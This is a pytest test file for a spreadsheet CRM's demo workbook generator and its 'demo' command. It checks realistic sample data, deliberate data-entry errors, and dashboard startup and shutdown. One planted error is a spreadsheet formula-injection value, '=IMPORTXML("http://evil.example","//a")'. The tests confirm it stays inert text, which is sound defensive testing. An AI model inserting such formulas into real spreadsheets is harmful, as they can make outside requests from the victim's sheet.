"""The demo workbook: reproducible, realistic, with the mistakes the validator must find, and the
`sheetcrm demo` command end to end."""

from __future__ import annotations

import os
import random
import signal
import socket
import subprocess
import sys
import threading
import time
import unicodedata
import urllib.request
from collections import Counter, defaultdict
from datetime import date, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import openpyxl
import phonenumbers
import pytest
from babel import Locale
from email_validator import EmailNotValidError, validate_email
from jinja2 import meta
from jinja2.sandbox import SandboxedEnvironment

from automations.cli import main
from automations.demo import command as demo
from automations.demo.generate import Rows, generate_demo
from sheet_schema.backends.xlsx import XlsxBackend
from sheet_schema.cells import CellContext, read_cell
from sheet_schema.default_settings import DEFAULT_SETTINGS
from sheet_schema.schema import load_schema
from tests.fixtures_demo import (
    DEMO_CUSTOMERS,
    DEMO_SEED,
    DEMO_TODAY,
    demo_rows,
    demo_workbook,
)

__all__ = ["demo_rows", "demo_workbook"]  # fixtures used by name

SCHEMA = load_schema()
CONTEXT = CellContext(date_order="DMY", language="en")
LANGUAGE_OF_REGION = {"ES": "es", "PT": "pt", "BR": "pt", "GR": "el", "GB": "en", "US": "en"}
LANGUAGE_OF_REGION["DE"] = "en"  # the workbook has no German; Germans get English
ISO_DATE_TEXT = "%d/%m/%Y"


def typed(tab: str, key: str, value: object) -> object:
    """A cell as the bot reads it (the same code path as a backend)."""
    return read_cell(SCHEMA.tab(tab).column(key), value, CONTEXT).value


def region_of(country: str) -> str | None:
    """The region a Country cell stands for: an ISO code or a name in a few languages."""
    if country.upper() in LANGUAGE_OF_REGION:
        return country.upper()
    for language in ("en", "es", "pt", "el", "de"):
        for code, name in Locale(language).territories.items():
            if name.casefold() == country.casefold():
                return str(code)
    return None


def filled(rows: Rows) -> list[dict[str, object]]:
    """Customers except the half-typed row (the one with only a name)."""
    return [r for r in rows["Customers"] if r.get("email") or r.get("phone")]


def test_same_seed_gives_the_same_rows_and_another_seed_other_rows() -> None:
    random.seed(1)
    first = generate_demo(seed=3, customers=60, today=DEMO_TODAY)
    random.seed(2)  # the global random state must not matter
    again = generate_demo(seed=3, customers=60, today=DEMO_TODAY)
    other = generate_demo(seed=4, customers=60, today=DEMO_TODAY)
    assert first == again
    assert [r["name"] for r in first["Customers"]] != [r["name"] for r in other["Customers"]]
    assert first["Deals"] != other["Deals"]


def test_sizes_follow_the_number_of_customers(demo_rows: Rows) -> None:
    assert len(demo_rows["Customers"]) == DEMO_CUSTOMERS
    assert len(demo_rows["Deals"]) == pytest.approx(400, abs=5)
    assert len(demo_rows["Interactions"]) == pytest.approx(1000, abs=10)
    bigger = generate_demo(seed=DEMO_SEED, customers=900, today=DEMO_TODAY)
    assert len(bigger["Deals"]) == pytest.approx(1200, abs=10)
    assert len(bigger["Interactions"]) == pytest.approx(3000, abs=20)
    with pytest.raises(ValueError, match="at least"):
        generate_demo(customers=5)


def test_deals_form_a_funnel_with_consistent_dates(demo_rows: Rows) -> None:
    deals = demo_rows["Deals"]
    stages = Counter(typed("Deals", "stage", d["stage"]) for d in deals)
    share = {stage: n / len(deals) for stage, n in stages.items()}
    assert 0.18 <= share["Won"] <= 0.32
    assert 0.13 <= share["Lost"] <= 0.27
    assert share["Lead"] + share["Qualified"] > share["Proposal"] + share["Negotiation"] > 0.1
    for deal in deals:
        stage = typed("Deals", "stage", deal["stage"])
        created = typed("Deals", "created", deal["created"])
        closed = typed("Deals", "closed", deal["closed"])
        assert isinstance(created, date) and created <= DEMO_TODAY
        if stage in ("Won", "Lost"):
            assert isinstance(closed, date) and created <= closed <= DEMO_TODAY
        elif stage is not None:  # (not the "Wonn" typo)
            assert closed is None
        if stage == "Lost":
            assert deal["lost_reason"] in SCHEMA.tab("Deals").column("lost_reason").choices
        assert isinstance(typed("Deals", "value", deal["value"]), Decimal)
    lost = [d for d in deals if typed("Deals", "stage", d["stage"]) == "Lost"]
    assert sum(1 for d in lost if d["competitor"]) >= len(lost) / 3


def test_sources_cover_a_year_and_pay_off_differently(demo_rows: Rows) -> None:
    costs: dict[str, list[Decimal]] = defaultdict(list)
    months: dict[str, set[date]] = defaultdict(set)
    for row in demo_rows["Sources"]:
        source = str(row["source"])
        month = typed("Sources", "month", row["month"])
        cost = typed("Sources", "cost", row["cost"])
        assert isinstance(month, date) and isinstance(cost, Decimal)
        costs[source].append(cost)
        months[source].add(month)
    assert len(costs) >= 6
    assert all(len(m) == 12 for m in months.values())
    newest = max(max(m) for m in months.values())
    assert newest == DEMO_TODAY.replace(day=1)
    # Costs differ by an order of magnitude between the cheapest and the dearest source.
    yearly = {s: sum(c) for s, c in costs.items()}
    assert max(yearly.values()) > 10 * min(yearly.values())
    revenue: Counter[str] = Counter()
    for deal in demo_rows["Deals"]:
        if typed("Deals", "stage", deal["stage"]) == "Won":
            value = typed("Deals", "value", deal["value"])
            assert isinstance(value, Decimal)
            revenue[str(deal["source"])] += int(value)
    roi = {s: revenue[s] / float(yearly[s]) for s in yearly}
    assert min(roi.values()) < 1, roi  # one source loses money
    assert max(roi.values()) > 2, roi  # another pays back more than twice its cost
    customer_sources = {typed("Customers", "source", c["source"]) for c in filled(demo_rows)}
    assert customer_sources - set(costs), "a source brings customers but has no cost rows"


def test_templates_render_in_every_language_with_the_documented_variables(
    demo_rows: Rows,
) -> None:
    environment = SandboxedEnvironment()
    found: dict[str, set[str]] = defaultdict(set)
    context = {
        "customer": {"name": "Ana Pérez", "company": "Pérez S.L."},
        "sender": {"name": "Costa Digital Studio"},
        "deal": {"title": "Website redesign"},
    }
    for row in demo_rows["Templates"]:
        found[str(row["key"])].add(str(row["language"]))
        for part in ("subject", "body"):
            source = str(row[part])
            used = meta.find_undeclared_variables(environment.parse(source))
            assert used <= {"customer", "sender", "deal"}, (row["key"], used)
            text = environment.from_string(source).render(context)
            assert "{{" not in text
        assert "Ana Pérez" in environment.from_string(str(row["body"])).render(context)
    keys = {"welcome", "birthday", "follow_up", "anniversary", "dormant", "newsletter"}
    assert keys <= set(found)
    assert all(found[key] >= {"en", "es", "pt", "el"} for key in keys)
    automations = demo_rows["Automations"]
    kinds = {str(a["kind"]) for a in automations}
    assert kinds == {"birthday", "anniversary", "dormant", "follow-up", "welcome"}
    assert all(a["template"] in found for a in automations)
    campaigns = demo_rows["Campaigns"]
    assert 2 <= len(campaigns) <= 3
    approved = [typed("Campaigns", "approved", c["approved"]) for c in campaigns]
    assert True in approved and any(a is not True for a in approved)
    assert all(c["template"] in found for c in campaigns)


def test_settings_are_the_defaults_with_the_demo_values(demo_rows: Rows) -> None:
    settings = {str(r["key"]): r["value"] for r in demo_rows["Settings"]}
    assert list(settings) == [s.key for s in DEFAULT_SETTINGS]
    assert settings["Time zone"] == "Europe/Madrid"
    assert settings["Default country"] == "ES"
    assert settings["Language"] == "en"
    assert settings["Currency"] == "EUR"
    assert settings["Date order"] == "DMY"
    assert settings["Sender email"] == "demo@example.com"


def test_customers_come_from_several_countries_with_matching_languages(demo_rows: Rows) -> None:
    customers = filled(demo_rows)
    regions = Counter(region_of(str(c["country"])) for c in customers)
    assert None not in regions, "every Country cell is a code or a name Babel knows"
    assert set(regions) == set(LANGUAGE_OF_REGION)
    spellings = {str(c["country"]) for c in customers}
    assert {"ES", "España"} <= spellings or {"ES", "Spain"} <= spellings  # codes and names
    for customer in customers:
        region = region_of(str(customer["country"]))
        assert region is not None
        assert typed("Customers", "language", customer["language"]) == LANGUAGE_OF_REGION[region]
    assert any(any("\u0370" <= ch <= "\u03ff" for ch in str(c["name"])) for c in customers)
    assert 4 <= len({c["manager"] for c in customers}) <= 6
    created = [typed("Customers", "created", c["created"]) for c in customers]
    assert all(isinstance(d, date) and d <= DEMO_TODAY for d in created)
    oldest = min(d for d in created if isinstance(d, date))
    assert DEMO_TODAY - timedelta(days=550) <= oldest <= DEMO_TODAY - timedelta(days=365)
    consent = [typed("Customers", "marketing_consent", c["marketing_consent"]) for c in customers]
    assert consent.count(True) >= 0.8 * len(customers)
    assert any(typed("Customers", "unsubscribed", c["unsubscribed"]) for c in customers)


def test_phones_are_valid_for_the_country_except_the_one_missing_a_digit(
    demo_rows: Rows,
) -> None:
    invalid = []
    styles = Counter()
    for customer in filled(demo_rows):
        phone, region = str(customer["phone"]), region_of(str(customer["country"]))
        styles["international" if phone.startswith("+") else "national"] += 1
        try:
            number = phonenumbers.parse(phone, region)
        except phonenumbers.NumberParseException:
            invalid.append(phone)
            continue
        if not phonenumbers.is_valid_number(number):
            invalid.append(phone)
        else:
            assert phonenumbers.region_code_for_number(number) == region
    assert len(invalid) == 1, invalid
    assert min(styles.values()) > 0.2 * sum(styles.values())


def test_emails_are_ascii_and_derived_from_the_name(demo_rows: Rows) -> None:
    invalid = []
    derived = 0
    customers = filled(demo_rows)
    for customer in customers:
        email = str(customer["email"])
        assert email.isascii(), email
        try:
            validate_email(email, check_deliverability=False)
        except EmailNotValidError:
            invalid.append(email)
        folded = unicodedata.normalize("NFKD", str(customer["name"]).lower())
        ascii_name = "".join(ch for ch in folded if (ch.isascii() and ch.isalpha()) or ch == " ")
        if any(part in email for part in ascii_name.split() if len(part) > 2):
            derived += 1
    assert len(invalid) == 1, invalid
    greek = sum(1 for c in customers if any("\u0370" <= ch <= "\u03ff" for ch in str(c["name"])))
    assert derived >= 0.9 * (len(customers) - greek)


def test_birthdays_include_29_february_and_the_coming_week(demo_rows: Rows) -> None:
    birthdays = [typed("Customers", "birthday", c["birthday"]) for c in demo_rows["Customers"]]
    days = [b for b in birthdays if isinstance(b, date)]
    leap = [b for b in days if (b.month, b.day) == (2, 29)]
    assert len(leap) >= 3
    coming = {DEMO_TODAY + timedelta(days=n) for n in range(1, 8)}
    soon = [
        b
        for b in days
        if b < DEMO_TODAY and any((b.month, b.day) == (d.month, d.day) for d in coming)
    ]
    assert len(soon) >= 3
    assert sum(1 for b in days if b > DEMO_TODAY) == 1  # the deliberate mistake


def test_interactions_show_purchases_complaints_and_dormant_customers(demo_rows: Rows) -> None:
    interactions = demo_rows["Interactions"]
    kinds = Counter(str(i["kind"]) for i in interactions)
    assert set(kinds) == {"Call", "Meeting", "Email", "Note", "Complaint", "Purchase"}
    complaints = [i for i in interactions if i["kind"] == "Complaint"]
    assert any(typed("Interactions", "answered", i["answered"]) is not True for i in complaints)
    assert any(typed("Interactions", "answered", i["answered"]) is True for i in complaints)
    purchases = [i for i in interactions if i["kind"] == "Purchase"]
    assert all(isinstance(typed("Interactions", "amount", p["amount"]), Decimal) for p in purchases)
    buyers = Counter(str(p["customer_id"]) for p in purchases)
    assert sum(1 for n in buyers.values() if n >= 2) >= 10  # repeat buyers
    known = {c["id"] for c in demo_rows["Customers"]}
    won = {
        str(d["customer_id"])
        for d in demo_rows["Deals"]
        if typed("Deals", "stage", d["stage"]) == "Won" and d["customer_id"] in known
    }
    assert won <= set(buyers)
    last: dict[str, date] = {}
    for row in interactions:
        moment = typed("Interactions", "date", row["date"])
        assert isinstance(moment, datetime)
        assert DEMO_TODAY - timedelta(days=366) <= moment.date() <= DEMO_TODAY
        key = str(row["customer_id"])
        last[key] = max(last.get(key, moment.date()), moment.date())
    recent = sum(1 for d in last.values() if d >= DEMO_TODAY - timedelta(days=30))
    dormant = sum(1 for d in last.values() if d < DEMO_TODAY - timedelta(days=120))
    assert recent >= 0.2 * len(last) and dormant >= 0.1 * len(last)


def test_people_type_dates_amounts_and_stages_in_their_own_ways(demo_rows: Rows) -> None:
    texts = [
        str(row[key])
        for tab, key in (("Customers", "created"), ("Deals", "created"), ("Deals", "closed"))
        for row in demo_rows[tab]
        if isinstance(row[key], str)
    ]
    assert len(texts) >= 10
    assert any(t.count("/") == 2 for t in texts)
    amounts = [str(d["value"]) for d in demo_rows["Deals"] if isinstance(d["value"], str)]
    assert any("," in a for a in amounts)
    assert any(
        "." in a and "," in a
        for a in amounts
        + [str(i["amount"]) for i in demo_rows["Interactions"] if isinstance(i["amount"], str)]
    )
    stages = SCHEMA.tab("Deals").column("stage").choices
    odd = [d["stage"] for d in demo_rows["Deals"] if d["stage"] not in stages]
    readable = [s for s in odd if typed("Deals", "stage", s) is not None]
    assert len(readable) >= 5  # "closed won", "negociación"... read as the real stage


def test_every_deliberate_mistake_is_there(demo_rows: Rows) -> None:
    customers = demo_rows["Customers"]
    emails = Counter(str(c["email"]).casefold() for c in customers if c["email"])
    assert [n for n in emails.values() if n > 1] == [2]
    half = [c for c in customers if c["name"] and not any(v for k, v in c.items() if k != "name")]
    assert len(half) == 1
    deals = demo_rows["Deals"]
    assert sum(1 for d in deals if d["expected_close"] == "31/02/2025") == 1
    assert sum(1 for d in deals if d["stage"] == "Wonn") == 1
    ids = {c["id"] for c in customers if c["id"]}
    assert sum(1 for d in deals if d["customer_id"] not in ids) == 1
    injected = [i for i in demo_rows["Interactions"] if "IMPORTXML" in str(i["summary"])]
    assert len(injected) == 1
    assert injected[0]["summary"] == '=IMPORTXML("http://evil.example","//a")'
    assert injected[0]["manager"] is None and injected[0]["kind"] == "Complaint"
    # The invalid email, the short phone and the future birthday are asserted above.


def test_written_workbook_reads_back_every_tab(demo_workbook: Path, demo_rows: Rows) -> None:
    snapshot = XlsxBackend(demo_workbook, SCHEMA).read()
    assert snapshot.tab_issues == ()
    for tab, rows in demo_rows.items():
        assert len(snapshot.tab(tab)) == len(rows), tab
    assert snapshot.settings.time_zone == "Europe/Madrid"
    assert snapshot.settings.default_country == "ES"
    assert snapshot.settings.sender_email == "demo@example.com"
    day_first = 0
    for written, row in zip(demo_rows["Customers"], snapshot.tab("Customers"), strict=True):
        assert row.text("name") == written["name"]
        text = written["created"]
        if isinstance(text, str) and "/" in text:
            assert row.get("created") == datetime.strptime(text, ISO_DATE_TEXT).date()
            day_first += 1
    assert day_first >= 3
    summaries = [r.text("summary") for r in snapshot.tab("Interactions")]
    assert '=IMPORTXML("http://evil.example","//a")' in summaries


def test_demo_command_writes_the_workbook_and_runs_the_bot(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "demo"
    folder.mkdir()
    keep = folder / "notes.txt"
    keep.write_text("mine")
    assert main(["demo", "--dir", str(folder), "--no-dashboard", "--seed", "3"]) == 0
    out = capsys.readouterr().out
    workbook = folder / "sheetcrm-demo.xlsx"
    assert str(workbook.absolute()) in out
    assert "Customers 300" in out and "Problems found:" in out
    assert "The bot assigned" in out
    snapshot = XlsxBackend(workbook, SCHEMA).read()
    for tab in ("Customers", "Deals", "Interactions", "Campaigns"):
        rows = snapshot.tab(tab)
        assert rows and all(r.row_id for r in rows), tab
    # The rows typed "this week" had no ID before the cycle.
    generated = generate_demo(seed=3, customers=300, today=demo.demo_today())
    assert any(c["id"] is None for c in generated["Customers"])
    problems = [r.text("problems") for r in snapshot.tab("Deals") if r.text("problems")]
    assert any("Wonn" in p for p in problems)
    # Emails went to .eml files, one per Mail log row marked Sent, and nowhere else.
    sent = [r for r in snapshot.tab("Mail log") if r.text("status") == "Sent"]
    files = sorted((folder / "outbox").glob("*.eml"))
    assert sent and len(files) == len(sent)
    assert f"Emails: {len(sent)} written to" in out
    # The customer's formula is still text after the bot rewrote the file: nothing can run it.
    book = openpyxl.load_workbook(workbook)
    cells = [c for row in book["Interactions"].iter_rows() for c in row if c.value]
    injected = [c for c in cells if str(c.value).startswith("=IMPORTXML")]
    assert len(injected) == 1 and injected[0].data_type == "s"
    assert not any(c.data_type == "f" for c in cells)
    # Running it again replaces the demo workbook and nothing else.
    assert main(["demo", "--dir", str(folder), "--no-dashboard", "--seed", "4"]) == 0
    assert keep.read_text() == "mine"
    names = sorted(p.name for p in folder.iterdir())
    assert names == ["notes.txt", "outbox", "sheetcrm-demo.xlsx"]


def test_demo_refuses_to_replace_a_file_that_is_not_a_sheetcrm_workbook(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    precious = tmp_path / "sheetcrm-demo.xlsx"
    precious.write_bytes(b"my own spreadsheet")
    assert main(["demo", "--dir", str(tmp_path), "--no-dashboard"]) == 1
    assert "not a SheetCRM workbook" in capsys.readouterr().err
    assert precious.read_bytes() == b"my own spreadsheet"


def test_demo_says_clearly_when_the_port_is_taken(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 0))
        busy.listen()
        port = busy.getsockname()[1]
        code = main(["demo", "--dir", str(tmp_path), "--port", str(port)])
    assert code == 1
    error = capsys.readouterr().err
    assert f"port {port}" in error and "already in use" in error and "--port" in error
    assert not (tmp_path / "sheetcrm-demo.xlsx").exists()


def test_demo_without_a_dashboard_app_explains_instead_of_crashing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(demo, "find_dashboard_app", lambda: None)
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    code = demo.run_demo(tmp_path, SCHEMA, seed=1, customers=40, dashboard=True, port=port)
    captured = capsys.readouterr()
    assert code == 1
    assert "dashboard is not installed" in captured.err
    assert (tmp_path / "sheetcrm-demo.xlsx").exists()
    assert f"http://127.0.0.1:{port}" in captured.out


@pytest.mark.slow
def test_demo_serves_the_dashboard_until_ctrl_c(tmp_path: Path) -> None:
    if demo.find_dashboard_app() is None:
        pytest.skip("dashboard/app.py is not there yet")
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    command = [sys.executable, "-m", "automations", "demo", "--dir", str(tmp_path)]
    command += ["--customers", "40", "--port", str(port)]
    # A session of its own, so the Ctrl+C below reaches the command and streamlit as in a terminal.
    process = subprocess.Popen(
        command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, start_new_session=True, text=True
    )
    lines: list[str] = []
    assert process.stdout is not None
    reader = threading.Thread(target=lambda: lines.extend(process.stdout or ()), daemon=True)
    reader.start()
    try:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline and process.poll() is None:
            if any("Dashboard running at" in line for line in lines):
                break
            time.sleep(0.2)
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/_stcore/health", timeout=5) as answer:
            assert answer.status == 200
        os.killpg(process.pid, signal.SIGINT)
        process.wait(timeout=30)
    finally:
        if process.poll() is None:
            os.killpg(process.pid, signal.SIGKILL)
            process.wait()
    reader.join(timeout=5)
    text = "".join(lines)
    assert process.returncode == 0, text
    assert f"Dashboard running at http://127.0.0.1:{port}" in text
    assert "Dashboard stopped." in text
    with socket.socket() as again:  # the port is free again: nothing was left running
        again.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        again.bind(("127.0.0.1", port))


def test_demo_needs_enough_customers_for_its_mistakes(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["demo", "--dir", str(tmp_path), "--no-dashboard", "--customers", "5"]) == 2
    assert "--customers must be at least" in capsys.readouterr().err
    assert list(tmp_path.iterdir()) == []
